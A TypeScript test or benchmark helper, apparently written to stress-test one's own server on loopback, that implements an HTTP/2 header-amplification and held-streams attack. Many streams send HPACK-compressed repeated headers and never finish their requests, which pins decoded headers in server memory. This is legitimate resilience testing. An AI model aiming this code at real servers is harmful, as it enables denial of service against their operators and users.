/**
 * Attacks a test or the benchmark runs against a server on loopback, each
 * bounded in count and time. They report what they saw; the caller
 * measures the server (heap, fds) before and after.
 */
import http2 from 'node:http2';

export interface H2HeldStreamsOptions {
  readonly url: string;
  readonly sessions: number;
  readonly streamsPerSession: number;
  /** One header value, sent once and then referenced from the HPACK table … */
  readonly valueBytes: number;
  /** … this many times per stream: a tiny frame that decodes to valueBytes × repeats. */
  readonly repeats: number;
  /** How long to hold the streams open … */
  readonly holdMs: number;
  /** … and what to do then, before letting go (measure the server). */
  readonly whileHeld?: () => Promise<void>;
}

export interface H2HeldStreamsResult {
  /** Streams the server reset or answered (it refused to hold them). */
  readonly refused: number;
  /** Streams still open when the hold ended. */
  readonly held: number;
  /** Sessions the server closed or destroyed during the hold. */
  readonly sessionsClosed: number;
}

/**
 * HTTP/2 header amplification plus held streams: every stream sends a
 * header block of a few KB that HPACK expands to `valueBytes × repeats`,
 * and never ends its request (no END_STREAM, no body), so a server that
 * accepts it keeps the decoded headers for as long as the stream lives.
 */
export async function h2HeldStreams(options: H2HeldStreamsOptions): Promise<H2HeldStreamsResult> {
  const value = 'a'.repeat(options.valueBytes);
  const sessions: http2.ClientHttp2Session[] = [];
  let refused = 0;
  let sessionsClosed = 0;
  const streams: http2.ClientHttp2Stream[] = [];
  for (let s = 0; s < options.sessions; s++) {
    const session = http2.connect(options.url, {maxSendHeaderBlockLength: 1 << 20, peerMaxConcurrentStreams: 1000});
    session.on('error', () => {});
    session.once('close', () => sessionsClosed++);
    sessions.push(session);
    for (let i = 0; i < options.streamsPerSession; i++) {
      let stream: http2.ClientHttp2Stream;
      try {
        stream = session.request(
          {
            ':method': 'POST',
            ':path': '/beamline.flow.v1.Router/Decide',
            'content-type': 'application/grpc',
            'x-amplified': Array.from({length: options.repeats}, () => value),
          },
          {endStream: false},
        );
      } catch {
        refused++;
        continue;
      }
      stream.on('error', () => {});
      let counted = false;
      const count = () => {
        if (!counted) {
          counted = true;
          refused++;
        }
      };
      stream.once('response', count);
      stream.once('close', count);
      streams.push(stream);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, options.holdMs));
  const held = streams.filter((stream) => !stream.closed && !stream.destroyed).length;
  await options.whileHeld?.();
  for (const session of sessions) {
    session.destroy();
  }
  return {refused, held, sessionsClosed};
}
